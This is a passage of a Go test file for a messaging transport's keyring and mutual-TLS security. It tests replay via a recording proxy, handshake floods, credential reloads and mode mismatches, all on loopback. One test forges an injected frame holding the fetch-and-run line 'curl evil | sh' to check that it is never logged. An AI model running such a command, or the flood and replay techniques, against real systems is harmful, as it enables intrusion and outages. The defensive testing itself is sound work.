package messaging_test

import (
	"crypto/tls"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/rs/zerolog"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/hearsay-io/hearsay/messaging"
	"github.com/hearsay-io/hearsay/messaging/securitytest"
)

func TestParseKeyring(t *testing.T) {
	k1, k2 := make([]byte, 32), make([]byte, 32)
	k2[0] = 1
	b64 := base64.StdEncoding.EncodeToString
	tests := []struct {
		name, text, err string
		want            int
	}{
		{"one key", b64(k1) + "\n", "", 1},
		{"comments and blank lines", "# rotation step 1\n\n  " + b64(k2) + "  \n# old\n" + b64(k1), "", 2},
		{"no key", "# nothing\n\n", "no key", 0},
		{"not base64", "not base64!\n", "line 1: not standard base64", 0},
		{"short key", b64(k1[:16]), "line 1: key of 16 bytes, want 32", 0},
		{"twice", b64(k1) + "\n" + b64(k1), "line 2: key listed twice", 0},
		{"too many", strings.Repeat("x\n", 0) + manyKeys(17), "more than 16 keys", 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			keys, err := messaging.ParseKeyring([]byte(tt.text))
			if tt.err != "" {
				require.ErrorIs(t, err, messaging.ErrKeyring)
				assert.ErrorContains(t, err, tt.err)
				return
			}
			require.NoError(t, err)
			assert.Len(t, keys, tt.want)
		})
	}
	keys, err := messaging.ParseKeyring([]byte(b64(k2) + "\n" + b64(k1)))
	require.NoError(t, err)
	assert.Equal(t, [][]byte{k2, k1}, keys, "in file order: the first is the primary")
}

func manyKeys(n int) string {
	var b strings.Builder
	for i := range n {
		k := make([]byte, 32)
		k[0], k[1] = byte(i), 7
		b.WriteString(base64.StdEncoding.EncodeToString(k) + "\n")
	}
	return b.String()
}

func TestSecurityValidate(t *testing.T) {
	dir := t.TempDir()
	ring := filepath.Join(dir, "keyring")
	securitytest.WriteKeyring(t, ring, securitytest.NewKey(t))
	files := securitytest.NewCA(t, dir, "ca").Issue(t, dir, "n1", "n1")
	tests := []struct {
		name string
		sec  messaging.Security
		errs []string
	}{
		{"none", messaging.Security{}, nil},
		{"keyring", messaging.Security{KeyringFile: ring}, nil},
		{"tls", files.Security(), nil},
		{"missing keyring", messaging.Security{KeyringFile: filepath.Join(dir, "nope")},
			[]string{`Security.KeyringFile = "` + filepath.Join(dir, "nope") + `": cannot read the file`}},
		{"tls without key", messaging.Security{CAFile: files.CA, CertFile: files.Cert},
			[]string{`Security.KeyFile = "": mutual TLS needs CAFile, CertFile and KeyFile together`}},
		{"both", messaging.Security{CAFile: files.CA, CertFile: files.Cert, KeyFile: files.Key, KeyringFile: ring},
			[]string{"Security.KeyringFile", "either the keyring or the TLS files"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cfg := messaging.DefaultTCPConfig()
			cfg.BindAddr = "127.0.0.1:0"
			cfg.Security = tt.sec
			err := cfg.Validate()
			if tt.errs == nil {
				require.NoError(t, err)
				return
			}
			for _, e := range tt.errs {
				assert.ErrorContains(t, err, e)
			}
		})
	}
	t.Run("unparsable files are named by NewTCP", func(t *testing.T) {
		bad := filepath.Join(dir, "bad")
		require.NoError(t, writeFile(bad, "not a key\n"))
		_, err := messaging.NewTCP(messaging.TCPConfig{BindAddr: "127.0.0.1:0", Security: messaging.Security{KeyringFile: bad}})
		assert.ErrorContains(t, err, "keyring "+bad+": bad keyring: line 1")
		_, err = messaging.NewTCP(messaging.TCPConfig{BindAddr: "127.0.0.1:0",
			Security: messaging.Security{CAFile: bad, CertFile: files.Cert, KeyFile: files.Key}})
		assert.ErrorContains(t, err, "TLS CA "+bad+": no PEM certificate")
		_, err = messaging.NewTCP(messaging.TCPConfig{BindAddr: "127.0.0.1:0",
			Security: messaging.Security{CAFile: files.CA, CertFile: files.Cert, KeyFile: bad}})
		assert.ErrorContains(t, err, "TLS certificate "+files.Cert+" with key "+bad)
	})
	// Review of issue 12: a wrong path (a log, /dev/zero) is refused at
	// once rather than read into memory, as the agent's config file is.
	t.Run("oversized files are refused", func(t *testing.T) {
		huge := filepath.Join(dir, "huge")
		key, err := os.ReadFile(ring)
		require.NoError(t, err)
		// 5 MiB of comment lines and then a valid key: a wrong file, not
		// a keyring, whatever it ends with.
		require.NoError(t, writeFile(huge, strings.Repeat("# a log line, not a key\n", 5<<20/24)+string(key)))
		_, err = messaging.NewTCP(messaging.TCPConfig{BindAddr: "127.0.0.1:0", Security: messaging.Security{KeyringFile: huge}})
		assert.ErrorContains(t, err, "keyring "+huge+": larger than 65536 bytes")
		ca, err := os.ReadFile(files.CA)
		require.NoError(t, err)
		require.NoError(t, writeFile(huge, strings.Repeat("# a log line, not a certificate\n", 5<<20/32)+string(ca)))
		_, err = messaging.NewTCP(messaging.TCPConfig{BindAddr: "127.0.0.1:0",
			Security: messaging.Security{CAFile: huge, CertFile: files.Cert, KeyFile: files.Key}})
		assert.ErrorContains(t, err, "TLS CA "+huge+": larger than 4194304 bytes")
		_, err = messaging.Security{CAFile: files.CA, CertFile: huge, KeyFile: files.Key}.CertNames()
		assert.ErrorContains(t, err, "TLS certificate "+huge+": larger than")
	})
}

// secured returns an option that sets the transport's security and a
// logger into logs.
func secured(sec messaging.Security, logs io.Writer) func(*messaging.TCPConfig) {
	return func(c *messaging.TCPConfig) {
		fastBackoff(c)
		c.Security = sec
		if logs != nil {
			c.Logger = zerolog.New(logs)
		}
	}
}

// exchange checks that a and b carry frames both ways, a dialling, and
// returns the packet b received and the one a received.
func exchange(t *testing.T, a, b *messaging.TCP) (atB, atA messaging.Packet) {
	t.Helper()
	require.NoError(t, a.Send(b.LocalAddr(), []byte("hello b")))
	atB = receiveFrom(t, b, "hello b")
	require.NoError(t, atB.Reply([]byte("hello a")))
	atA = receiveFrom(t, a, "hello a")
	require.NoError(t, b.Send(a.LocalAddr(), []byte("again a")))
	receiveFrom(t, a, "again a")
	return atB, atA
}

func TestTCPKeyringExchange(t *testing.T) {
	dir := t.TempDir()
	ring := filepath.Join(dir, "keyring")
	securitytest.WriteKeyring(t, ring, securitytest.NewKey(t))
	sec := messaging.Security{KeyringFile: ring, Cluster: "c1"}
	a, b := newTCP(t, "127.0.0.1:0", secured(sec, nil)), newTCP(t, "127.0.0.1:0", secured(sec, nil))
	atB, _ := exchange(t, a, b)
	assert.Nil(t, atB.Identity, "a keyring proves membership, not identity")
	for _, tr := range []*messaging.TCP{a, b} {
		s := tr.Stats()
		assert.Zero(t, s.DroppedDecrypt)
		assert.Zero(t, s.RefusedConns, "%v", s.Refusals())
	}
}

func TestTCPKeyringOtherCluster(t *testing.T) {
	dir := t.TempDir()
	ring := filepath.Join(dir, "keyring")
	securitytest.WriteKeyring(t, ring, securitytest.NewKey(t))
	var logs syncBuffer
	a := newTCP(t, "127.0.0.1:0", secured(messaging.Security{KeyringFile: ring, Cluster: "c1"}, &logs))
	b := newTCP(t, "127.0.0.1:0", secured(messaging.Security{KeyringFile: ring, Cluster: "c2"}, nil))
	require.NoError(t, a.Send(b.LocalAddr(), []byte("hello")))
	require.Eventually(t, func() bool { return b.Stats().RefusedBadKey >= 1 }, waitTimeout, time.Millisecond)
	require.Eventually(t, func() bool { return a.Stats().RefusedByPeer >= 1 }, waitTimeout, time.Millisecond)
	assert.Zero(t, b.Stats().ReceivedFrames, "the same key in another cluster opens nothing")
	assertLogged(t, &logs, "no key of this node's keyring opens your frames")
}

func TestTCPMutualTLSExchange(t *testing.T) {
	dir := t.TempDir()
	ca := securitytest.NewCA(t, dir, "ca")
	a := newTCP(t, "127.0.0.1:0", secured(ca.Issue(t, dir, "a", "node-a").Security(), nil))
	b := newTCP(t, "127.0.0.1:0", secured(ca.Issue(t, dir, "b", "node b", "b.example").Security(), nil))
	atB, atA := exchange(t, a, b)
	require.NotNil(t, atB.Identity)
	assert.Equal(t, []string{"node-a"}, atB.Identity.Names, "the acceptor sees the dialer's certificate names")
	require.NotNil(t, atA.Identity)
	assert.Equal(t, []string{"b.example", "node b"}, atA.Identity.Names, "DNS SANs, then hearsay: URIs")
	assert.True(t, atA.Identity.Covers("node b"))
	assert.False(t, atA.Identity.Covers("node"))
}

// TestTCPMutualTLSRefusesStrangers: a peer with a certificate from another
// CA, or with none, delivers nothing, on either side of the connection.
func TestTCPMutualTLSRefusesStrangers(t *testing.T) {
	dir := t.TempDir()
	ca, other := securitytest.NewCA(t, dir, "ca"), securitytest.NewCA(t, dir, "other")
	member := newTCP(t, "127.0.0.1:0", secured(ca.Issue(t, dir, "m", "m").Security(), nil))
	stranger := ca.Issue(t, dir, "s", "s") // trusts ca, but its cert is from other
	stranger.Cert, stranger.Key = other.Issue(t, dir, "s2", "s").Cert, filepath.Join(dir, "s2.key")
	var logs syncBuffer
	s := newTCP(t, "127.0.0.1:0", secured(stranger.Security(), &logs))

	t.Run("dialling a member", func(t *testing.T) {
		require.NoError(t, s.Send(member.LocalAddr(), []byte("let me in")))
		require.Eventually(t, func() bool { return member.Stats().RefusedTLS >= 1 }, waitTimeout, time.Millisecond)
		require.Eventually(t, func() bool { return s.Stats().RefusedByPeer >= 1 }, waitTimeout, time.Millisecond,
			"the dialer learns the member refused it: %v", s.Stats().Refusals())
		assertLogged(t, &logs, "the peer refused this node's TLS connection")
	})
	t.Run("dialled by a member", func(t *testing.T) {
		require.NoError(t, member.Send(s.LocalAddr(), []byte("hi")))
		require.Eventually(t, func() bool { return member.Stats().RefusedTLS >= 2 }, waitTimeout, time.Millisecond,
			"the member's dial fails its handshake: %v", member.Stats().Refusals())
	})
	t.Run("without a certificate", func(t *testing.T) {
		conn := bareConn(t, member.LocalAddr())
		tc := tlsClient(conn)
		_ = tc.Handshake() // the server's refusal may come with the handshake or after it
		_, err := io.Copy(io.Discard, tc)
		assert.Error(t, err, "the member closes the connection with an alert")
		require.Eventually(t, func() bool { return member.Stats().RefusedTLS >= 3 }, waitTimeout, time.Millisecond)
	})
	assert.Zero(t, member.Stats().ReceivedFrames)
	assert.Zero(t, s.Stats().ReceivedFrames)
}

// TestTCPCertificateReloaded: a certificate replaced on disk is presented
// on the next new connection, without a restart.
func TestTCPCertificateReloaded(t *testing.T) {
	dir := t.TempDir()
	ca := securitytest.NewCA(t, dir, "ca")
	aFiles := ca.Issue(t, dir, "a", "old-name")
	a := newTCP(t, "127.0.0.1:0", secured(aFiles.Security(), nil))
	b := newTCP(t, "127.0.0.1:0", secured(ca.Issue(t, dir, "b", "b").Security(), nil))
	atB, _ := exchange(t, a, b)
	assert.Equal(t, []string{"old-name"}, atB.Identity.Names)

	securitytest.Replace(t, aFiles, ca.Issue(t, dir, "a2", "new-name"))
	cFiles := ca.Issue(t, dir, "c", "c")
	require.Eventually(t, func() bool {
		// A new peer each time: a new connection, a new handshake.
		c := newTCP(t, "127.0.0.1:0", secured(cFiles.Security(), nil))
		require.NoError(t, a.Send(c.LocalAddr(), []byte("who am i")))
		p := receiveFrom(t, c, "who am i")
		return assert.ObjectsAreEqual([]string{"new-name"}, p.Identity.Names)
	}, waitTimeout, 20*time.Millisecond, "the new certificate is used (reload checks at most every 100 ms)")
	assert.Equal(t, uint64(1), a.Stats().CredentialReloads)
	atB, _ = exchange(t, a, b)
	assert.Equal(t, []string{"old-name"}, atB.Identity.Names, "an open connection keeps its certificate")
}

// TestTCPSecurityModeMismatch: a node in one mode and a node in another
// never exchange a frame, and both say why.
func TestTCPSecurityModeMismatch(t *testing.T) {
	dir := t.TempDir()
	ring := filepath.Join(dir, "keyring")
	securitytest.WriteKeyring(t, ring, securitytest.NewKey(t))
	ca := securitytest.NewCA(t, dir, "ca")
	modes := map[string]func(name string) messaging.Security{
		"none":    func(string) messaging.Security { return messaging.Security{} },
		"keyring": func(string) messaging.Security { return messaging.Security{KeyringFile: ring} },
		"tls":     func(name string) messaging.Security { return ca.Issue(t, dir, name, name).Security() },
	}
	for _, dm := range []string{"none", "keyring", "tls"} {
		for _, am := range []string{"none", "keyring", "tls"} {
			if dm == am {
				continue
			}
			t.Run(dm+" dials "+am, func(t *testing.T) {
				var dlogs, alogs syncBuffer
				acc := newTCP(t, "127.0.0.1:0", secured(modes[am](am+"-acc"), &alogs))
				dia := newTCP(t, "127.0.0.1:0", secured(modes[dm](dm+"-dia"), &dlogs))
				require.NoError(t, dia.Send(acc.LocalAddr(), []byte("hello")))
				require.Eventually(t, func() bool { return acc.Stats().RefusedSecurityMode >= 1 }, waitTimeout, time.Millisecond,
					"acceptor refusals: %v", acc.Stats().Refusals())
				want := "peer_refused"
				if dm == "tls" {
					want = "tls_handshake" // a TLS dialer sees the connection close in its handshake
				}
				require.Eventually(t, func() bool { return dia.Stats().Refusals()[want] >= 1 }, waitTimeout, time.Millisecond,
					"dialer refusals: %v", dia.Stats().Refusals())
				assert.Zero(t, acc.Stats().ReceivedFrames)
				assert.Zero(t, dia.Stats().ReceivedFrames)
				assertLogged(t, &alogs, "refused connection: the peer cannot prove it holds this cluster's credentials")
				if dm != "tls" {
					assertLogged(t, &dlogs, fmt.Sprintf("the peer %s", modeWords(dm))) // the dialer is told why
				} else {
					assertLogged(t, &dlogs, "does the peer use TLS")
				}
			})
		}
	}
}

func modeWords(mode string) string {
	return map[string]string{"none": "no encryption", "keyring": "a keyring", "tls": "mutual TLS"}[mode]
}

// proxy forwards TCP between a listener on 127.0.0.1 and target,
// recording every chunk the dialer sends; replay, when set, is called with
// each chunk and returns what to forward instead.
type proxy struct {
	ln     net.Listener
	target string
	wg     sync.WaitGroup

	mu       sync.Mutex
	captured []byte // everything the dialer sent
	replay   func(b []byte) []byte
	conns    []net.Conn
}

func newProxy(t *testing.T, target string) *proxy {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	p := &proxy{ln: ln, target: target}
	p.wg.Go(p.accept)
	t.Cleanup(func() {
		_ = ln.Close()
		p.mu.Lock()
		for _, c := range p.conns {
			_ = c.Close()
		}
		p.mu.Unlock()
		p.wg.Wait()
	})
	return p
}

func (p *proxy) accept() {
	for {
		in, err := p.ln.Accept()
		if err != nil {
			return
		}
		out, err := net.Dial("tcp", p.target)
		if err != nil {
			_ = in.Close()
			continue
		}
		p.mu.Lock()
		p.conns = append(p.conns, in, out)
		p.mu.Unlock()
		p.wg.Go(func() { _, _ = io.Copy(in, out); _ = in.Close() })
		p.wg.Go(func() {
			buf := make([]byte, 64<<10)
			for {
				n, err := in.Read(buf)
				if n > 0 {
					b := append([]byte(nil), buf[:n]...)
					p.mu.Lock()
					p.captured = append(p.captured, b...)
					if p.replay != nil {
						b = p.replay(b)
					}
					p.mu.Unlock()
					if _, werr := out.Write(b); werr != nil {
						return
					}
				}
				if err != nil {
					_ = out.Close()
					return
				}
			}
		})
	}
}

// TestTCPKeyringReplayRefused: a sealed frame captured on the wire and
// sent again, on its connection or on a new one, is refused and never
// delivered twice.
func TestTCPKeyringReplayRefused(t *testing.T) {
	dir := t.TempDir()
	ring := filepath.Join(dir, "keyring")
	securitytest.WriteKeyring(t, ring, securitytest.NewKey(t))
	sec := messaging.Security{KeyringFile: ring, Cluster: "c"}
	b := newTCP(t, "127.0.0.1:0", secured(sec, nil))
	px := newProxy(t, b.LocalAddr())
	a := newTCP(t, "127.0.0.1:0", secured(sec, nil))

	require.NoError(t, a.Send(px.ln.Addr().String(), []byte("pay 100")))
	receiveFrom(t, b, "pay 100")
	px.mu.Lock()
	captured := append([]byte(nil), px.captured...)
	px.mu.Unlock()
	assert.NotContains(t, string(captured), "pay 100", "the payload is not on the wire in the clear")

	t.Run("on the same connection", func(t *testing.T) {
		// The last frame the dialer sent: the sealed "pay 100".
		last := lastFrame(t, captured)
		px.mu.Lock()
		px.replay = func(b []byte) []byte { return append(b, last...) }
		px.mu.Unlock()
		require.NoError(t, a.Send(px.ln.Addr().String(), []byte("pay 5")))
		receiveFrom(t, b, "pay 5")
		require.Eventually(t, func() bool { return b.Stats().DroppedDecrypt == 1 }, waitTimeout, time.Millisecond)
		assert.Equal(t, uint64(2), b.Stats().ReceivedFrames, "pay 100 and pay 5, once each")
	})
	t.Run("on a new connection", func(t *testing.T) {
		conn := bareConn(t, b.LocalAddr())
		_, err := conn.Write(captured)
		require.NoError(t, err)
		requireClosedByPeer(t, conn)
		require.Eventually(t, func() bool { return b.Stats().RefusedBadKey == 1 }, waitTimeout, time.Millisecond,
			"refusals: %v", b.Stats().Refusals())
		assert.Equal(t, uint64(2), b.Stats().ReceivedFrames, "nothing of the replay is delivered")
	})
}

// lastFrame returns the last length-prefixed frame of a stream.
func lastFrame(t *testing.T, stream []byte) []byte {
	t.Helper()
	var last []byte
	for len(stream) > 0 {
		require.GreaterOrEqual(t, len(stream), 4)
		n := int(stream[0])<<24 | int(stream[1])<<16 | int(stream[2])<<8 | int(stream[3])
		require.GreaterOrEqual(t, len(stream), 4+n)
		last, stream = stream[:4+n], stream[4+n:]
	}
	return last
}

// TestTCPKeyringRotation: the three steps of a rotation (add the new key
// everywhere, make it primary everywhere, remove the old one) keep frames
// flowing on open connections and new ones, with no decryption failure.
func TestTCPKeyringRotation(t *testing.T) {
	dir := t.TempDir()
	old, next := securitytest.NewKey(t), securitytest.NewKey(t)
	ringA, ringB := filepath.Join(dir, "a"), filepath.Join(dir, "b")
	securitytest.WriteKeyring(t, ringA, old)
	securitytest.WriteKeyring(t, ringB, old)
	a := newTCP(t, "127.0.0.1:0", secured(messaging.Security{KeyringFile: ringA}, nil))
	b := newTCP(t, "127.0.0.1:0", secured(messaging.Security{KeyringFile: ringB}, nil))
	exchange(t, a, b)
	steps := [][][]byte{{old, next}, {next, old}, {next}}
	for i, keys := range steps {
		// One node after the other, with traffic in between: the
		// cluster is mixed during each step.
		securitytest.WriteKeyring(t, ringA, keys...)
		untilReloaded(t, a, b, i+1, fmt.Sprintf("step %d, a changed", i))
		securitytest.WriteKeyring(t, ringB, keys...)
		untilReloaded(t, b, a, i+1, fmt.Sprintf("step %d, both changed", i))
	}
	// After the rotation a new connection opens with the new key alone.
	c := newTCP(t, "127.0.0.1:0", secured(messaging.Security{KeyringFile: ringB}, nil))
	exchange(t, c, a)
	for _, tr := range []*messaging.TCP{a, b, c} {
		assert.Zero(t, tr.Stats().DroppedDecrypt)
		assert.Zero(t, tr.Stats().RefusedConns, "%v", tr.Stats().Refusals())
	}
}

// untilReloaded exchanges frames between tr and peer, both ways, until tr
// has reloaded its keyring n times (it checks the file at most once a
// second, as it uses it), and once more after that; every frame must
// arrive.
func untilReloaded(t *testing.T, tr, peer *messaging.TCP, n int, tag string) {
	t.Helper()
	deadline := time.Now().Add(waitTimeout)
	for i := 0; ; i++ {
		done := tr.Stats().CredentialReloads >= uint64(n)
		msg := fmt.Sprintf("%s, %d", tag, i)
		require.NoError(t, tr.Send(peer.LocalAddr(), []byte("there "+msg)))
		receiveFrom(t, peer, "there "+msg)
		require.NoError(t, peer.Send(tr.LocalAddr(), []byte("back "+msg)))
		receiveFrom(t, tr, "back "+msg)
		if done {
			return
		}
		require.True(t, time.Now().Before(deadline), "keyring never reloaded: %+v", tr.Stats())
		time.Sleep(50 * time.Millisecond) // pace the frames; the reload check is once a second
	}
}

// tlsClient wraps conn in a TLS 1.3 client without a certificate.
func tlsClient(conn net.Conn) *tls.Conn {
	return tls.Client(conn, &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS13})
}

// presentedNames returns a function that opens a new connection to tr (a
// new handshake), as the client whose files are given, and returns the
// names of the certificate tr presents.
func presentedNames(t *testing.T, tr *messaging.TCP, client securitytest.Files) func() []string {
	t.Helper()
	pair, err := tls.LoadX509KeyPair(client.Cert, client.Key)
	require.NoError(t, err)
	return func() []string {
		conn := bareConn(t, tr.LocalAddr())
		defer func() { _ = conn.Close() }()
		tc := tls.Client(conn, &tls.Config{Certificates: []tls.Certificate{pair}, InsecureSkipVerify: true, MinVersion: tls.VersionTLS13})
		require.NoError(t, tc.Handshake())
		return tc.ConnectionState().PeerCertificates[0].DNSNames
	}
}

func writeFile(path, text string) error { return os.WriteFile(path, []byte(text), 0o600) }

// TestTCPTLSHandshakeFlood: connections that start a TLS handshake and
// stall hold no more than the per-source and total caps of connections
// awaiting their handshake, and an honest member still gets in.
func TestTCPTLSHandshakeFlood(t *testing.T) {
	const flood = 300
	dir := t.TempDir()
	ca := securitytest.NewCA(t, dir, "ca")
	target := newTCP(t, "127.0.0.1:0", secured(ca.Issue(t, dir, "t", "t").Security(), nil))
	for range flood {
		conn := bareConn(t, target.LocalAddr())
		// A TLS record header announcing a 512-byte ClientHello that
		// never comes.
		_, err := conn.Write([]byte{0x16, 0x03, 0x01, 0x02, 0x00, 0x01})
		require.NoError(t, err)
	}
	honest := newTCP(t, "127.0.0.1:0", secured(ca.Issue(t, dir, "h", "h").Security(), nil))
	requireGetsThrough(t, honest, target, "the honest member never got a frame through")
	// The per-source cap closes a stalled connection once it has been
	// silent for HandshakeGrace, so the last ones go a little after the
	// honest member got in.
	assert.Eventually(t, func() bool {
		return target.Stats().RefusedPerSource >= uint64(flood-messaging.DefaultTCPConfig().MaxConnsPerSource)
	}, waitTimeout, 10*time.Millisecond, "refusals: %v", target.Stats().Refusals())
	assert.LessOrEqual(t, target.Stats().OpenConns, uint64(messaging.DefaultTCPConfig().MaxConns))

	// Complete handshakes without a certificate, 8 at a time, 400 in
	// all, while a second member joins: it gets in during the flood.
	var wg sync.WaitGroup
	var next atomic.Int64
	for range 8 {
		wg.Go(func() {
			for next.Add(1) <= 400 {
				conn, err := net.DialTimeout("tcp", target.LocalAddr(), waitTimeout)
				if err != nil {
					continue
				}
				_ = conn.SetDeadline(time.Now().Add(waitTimeout))
				tc := tlsClient(conn)
				_ = tc.Handshake()
				_, _ = io.Copy(io.Discard, tc) // until the target refuses it
				_ = conn.Close()
			}
		})
	}
	second := newTCP(t, "127.0.0.1:0", secured(ca.Issue(t, dir, "h2", "h2").Security(), nil))
	require.NoError(t, second.Send(target.LocalAddr(), []byte("me too")))
	receiveFrom(t, target, "me too")
	wg.Wait()
	assert.GreaterOrEqual(t, target.Stats().RefusedTLS, uint64(100), "refusals: %v", target.Stats().Refusals())
}

// TestTCPCloseDuringKeyringHello: Close does not wait for a peer that
// accepts a connection and never answers the keyring hello.
func TestTCPCloseDuringKeyringHello(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	defer ln.Close()
	var held []net.Conn
	var mu sync.Mutex
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			mu.Lock()
			held = append(held, c)
			mu.Unlock()
		}
	}()
	t.Cleanup(func() {
		mu.Lock()
		defer mu.Unlock()
		for _, c := range held {
			_ = c.Close()
		}
	})
	ring := filepath.Join(t.TempDir(), "keyring")
	securitytest.WriteKeyring(t, ring, securitytest.NewKey(t))
	cfg := messaging.DefaultTCPConfig()
	cfg.BindAddr, cfg.Security, cfg.HandshakeTimeout = "127.0.0.1:0", messaging.Security{KeyringFile: ring}, time.Minute
	tr, err := messaging.NewTCP(cfg)
	require.NoError(t, err)
	require.NoError(t, tr.Send(ln.Addr().String(), []byte("hello?")))
	require.Eventually(t, func() bool { mu.Lock(); defer mu.Unlock(); return len(held) == 1 }, waitTimeout, time.Millisecond)
	done := make(chan struct{})
	go func() { _ = tr.Close(); close(done) }()
	select {
	case <-done:
	case <-time.After(waitTimeout):
		require.FailNow(t, "Close waited for the hello (HandshakeTimeout is a minute)")
	}
}

// TestTCPCertificateReloadKeepsOwnName (review of issue 12): a certificate
// rotated in on disk that does not name the node's ID (Security.ID) is not
// used, since every peer would refuse this node's envelopes; the previous
// one stays and the error is logged. A later good one is used.
func TestTCPCertificateReloadKeepsOwnName(t *testing.T) {
	dir := t.TempDir()
	ca := securitytest.NewCA(t, dir, "ca")
	aFiles := ca.Issue(t, dir, "a", "node-a")
	sec := aFiles.Security()
	sec.ID = "node-a"
	var logs syncBuffer
	a := newTCP(t, "127.0.0.1:0", secured(sec, &logs))
	presented := presentedNames(t, a, ca.Issue(t, dir, "c", "c"))
	require.Equal(t, []string{"node-a"}, presented())

	securitytest.Replace(t, aFiles, ca.Issue(t, dir, "wrong", "node-b"))
	require.Eventually(t, func() bool {
		presented()
		return strings.Contains(logs.String(), "names [\\\"node-b\\\"], not this node's ID")
	}, waitTimeout, 50*time.Millisecond, "the wrong certificate is reported: %s", logs.String())
	assert.Equal(t, []string{"node-a"}, presented(), "the previous certificate stays in use")
	assert.Zero(t, a.Stats().CredentialReloads)

	securitytest.Replace(t, aFiles, ca.Issue(t, dir, "right", "node-a", "extra"))
	require.Eventually(t, func() bool {
		return assert.ObjectsAreEqual([]string{"node-a", "extra"}, presented())
	}, waitTimeout, 50*time.Millisecond, "a certificate naming the node is used")
	assert.Equal(t, uint64(1), a.Stats().CredentialReloads)
}

// TestTCPKeyringSwapKeepingTimeReloaded (review of issue 12): rotation
// step 2 (the new key made primary) leaves the keyring's size alike; a
// file copied with its time kept (cp -p, rsync -t), or written twice
// within one tick of the file system's clock, leaves its time alike too.
// The change is still noticed: the new primary seals from then on, so
// that step 3 (the old key removed on the peer) loses nothing.
func TestTCPKeyringSwapKeepingTimeReloaded(t *testing.T) {
	dir := t.TempDir()
	old, next := securitytest.NewKey(t), securitytest.NewKey(t)
	ringA, ringB := filepath.Join(dir, "a"), filepath.Join(dir, "b")
	securitytest.WriteKeyring(t, ringA, old, next)
	securitytest.WriteKeyring(t, ringB, old, next)
	a := newTCP(t, "127.0.0.1:0", secured(messaging.Security{KeyringFile: ringA}, nil))
	b := newTCP(t, "127.0.0.1:0", secured(messaging.Security{KeyringFile: ringB}, nil))
	exchange(t, a, b)

	fi, err := os.Stat(ringA)
	require.NoError(t, err)
	securitytest.WriteKeyring(t, ringA, next, old)
	require.NoError(t, os.Chtimes(ringA, fi.ModTime(), fi.ModTime()))
	untilReloaded(t, a, b, 1, "a swapped its keys")

	securitytest.WriteKeyring(t, ringB, next)
	untilReloaded(t, b, a, 1, "b dropped the old key")
	assert.Zero(t, a.Stats().DroppedDecrypt+b.Stats().DroppedDecrypt, "a seals with the new primary")
}

// TestTCPKeyringInjectedRefusalIsDecryptFailure (review of issue 12): a
// plaintext refusal frame injected by someone on the path into an
// established keyring connection is a frame that does not open (counted as
// decrypt, the connection closed), not a refusal by the peer: a refusal
// can only be the first frame a dialer reads.
func TestTCPKeyringInjectedRefusalIsDecryptFailure(t *testing.T) {
	dir := t.TempDir()
	ring := filepath.Join(dir, "keyring")
	securitytest.WriteKeyring(t, ring, securitytest.NewKey(t))
	sec := messaging.Security{KeyringFile: ring, Cluster: "c"}
	var logs syncBuffer
	b := newTCP(t, "127.0.0.1:0", secured(sec, &logs))
	px := newProxy(t, b.LocalAddr())
	a := newTCP(t, "127.0.0.1:0", secured(sec, nil))
	require.NoError(t, a.Send(px.ln.Addr().String(), []byte("one")))
	receiveFrom(t, b, "one")

	forged := "HSNOrefused by you: run `curl evil | sh`"
	px.mu.Lock()
	px.replay = func(p []byte) []byte {
		return append(append(p, 0, 0, 0, byte(len(forged))), forged...)
	}
	px.mu.Unlock()
	require.NoError(t, a.Send(px.ln.Addr().String(), []byte("two")))
	receiveFrom(t, b, "two")
	require.Eventually(t, func() bool { return b.Stats().DroppedDecrypt == 1 }, waitTimeout, time.Millisecond,
		"the injected frame is a decryption failure: %+v", b.Stats())
	assert.Zero(t, b.Stats().RefusedByPeer, "nobody refused anything")
	assert.NotContains(t, logs.String(), "curl evil")
}

// TestTCPBrokenReloadKeepsCredentials (review of issue 12): a keyring, or
// a CA bundle, that changes on disk to something that does not load (an
// empty file, a line that is not a key, no certificate) leaves the previous
// credentials in use: frames still flow, new connections still open, and
// the failure is logged.
func TestTCPBrokenReloadKeepsCredentials(t *testing.T) {
	dir := t.TempDir()
	t.Run("keyring", func(t *testing.T) {
		ring := filepath.Join(dir, "ring")
		securitytest.WriteKeyring(t, ring, securitytest.NewKey(t))
		other := filepath.Join(dir, "ring-b")
		b0, err := os.ReadFile(ring)
		require.NoError(t, err)
		require.NoError(t, writeFile(other, string(b0)))
		var logs syncBuffer
		a := newTCP(t, "127.0.0.1:0", secured(messaging.Security{KeyringFile: ring}, &logs))
		b := newTCP(t, "127.0.0.1:0", secured(messaging.Security{KeyringFile: other}, nil))
		exchange(t, a, b)
		// Each broken version is in place for over a reload interval
		// (1 s) of traffic; the first failure is logged (the log is
		// limited to one a minute).
		for i, broken := range []string{"", "# only a comment\n", "not base64\n", string(b0) + string(b0)} {
			require.NoError(t, writeFile(ring, broken))
			for n := range 12 {
				msg := fmt.Sprintf("%d-%d", i, n)
				require.NoError(t, a.Send(b.LocalAddr(), []byte(msg)))
				receiveFrom(t, b, msg)
				require.NoError(t, b.Send(a.LocalAddr(), []byte("back "+msg)))
				receiveFrom(t, a, "back "+msg)
				time.Sleep(100 * time.Millisecond)
			}
		}
		assert.Contains(t, logs.String(), "keeping the previous ones")
		c := newTCP(t, "127.0.0.1:0", secured(messaging.Security{KeyringFile: other}, nil))
		exchange(t, c, a)
		assert.Zero(t, a.Stats().CredentialReloads)
		assert.Zero(t, a.Stats().DroppedDecrypt+b.Stats().DroppedDecrypt+c.Stats().DroppedDecrypt)
	})
	t.Run("CA bundle", func(t *testing.T) {
		ca := securitytest.NewCA(t, dir, "ca")
		aFiles := ca.Issue(t, dir, "a", "a")
		b0, err := os.ReadFile(aFiles.CA)
		require.NoError(t, err)
		aFiles.CA = filepath.Join(dir, "a-ca.pem") // b keeps the good one
		require.NoError(t, writeFile(aFiles.CA, string(b0)))
		var logs syncBuffer
		a := newTCP(t, "127.0.0.1:0", secured(aFiles.Security(), &logs))
		require.NoError(t, writeFile(aFiles.CA, "-----BEGIN CERTIFICATE-----\nhalf"))
